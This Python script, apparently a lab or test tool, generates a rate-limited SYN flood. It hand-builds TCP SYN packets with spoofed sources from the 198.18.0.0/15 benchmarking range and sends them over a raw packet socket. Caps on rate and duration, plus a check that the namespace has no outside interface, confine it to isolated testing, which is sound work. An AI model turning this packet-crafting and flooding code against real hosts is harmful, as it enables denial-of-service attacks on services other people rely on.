"""SYNs from random addresses of the benchmarking network (198.18.0.0/15, RFC 2544), a bounded number of them.

syn-flood.py DEVICE TARGET PORT PER_SECOND SECONDS

Runs only in a namespace without a way out: the device and the loopback are all that is up. Prints how many it sent.
"""

import os
import random
import socket
import struct
import sys
import time

DEVICE, TARGET, PORT, PER_SECOND, SECONDS = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
assert PER_SECOND <= 100_000 and SECONDS <= 20
DIFFERENT = 20_000
BATCH = 50
OPTIONS = bytes.fromhex("020405b40402080a000000010000000001030307")


def is_up(name):
    with open(f"/sys/class/net/{name}/flags") as flags:
        return int(flags.read(), 16) & 1 == 1


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", ~total & 0xFFFF)


def syn():
    source = struct.pack(">I", 0xC6120000 + random.getrandbits(17))
    target = socket.inet_aton(TARGET)
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 60, 0, 0x4000, 64, 6, 0)
    ip = ip[:10] + checksum(ip + source + target) + source + target
    ports = struct.pack(">HHII", random.randint(1024, 65535), PORT, random.getrandbits(32), 0)
    tcp = ports + struct.pack(">BBHHH", 0xA0, 2, 64240, 0, 0) + OPTIONS
    pseudo = source + target + struct.pack(">HH", 6, len(tcp))
    return ip + tcp[:16] + checksum(pseudo + tcp) + tcp[18:]


up = [name for name in os.listdir("/sys/class/net") if is_up(name)]
assert set(up) <= {"lo", DEVICE}, f"there may be a way out: {up}"
packets = [syn() for _ in range(DIFFERENT)]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
where = (DEVICE, 0x0800)
print("flooding", flush=True)
begin, sent = time.monotonic(), 0
while sent < PER_SECOND * SECONDS:
    if sent >= (time.monotonic() - begin) * PER_SECOND:
        time.sleep(0.001)
        continue
    for _ in range(BATCH):
        raw.sendto(packets[sent % DIFFERENT], where)
        sent += 1
print(sent, flush=True)
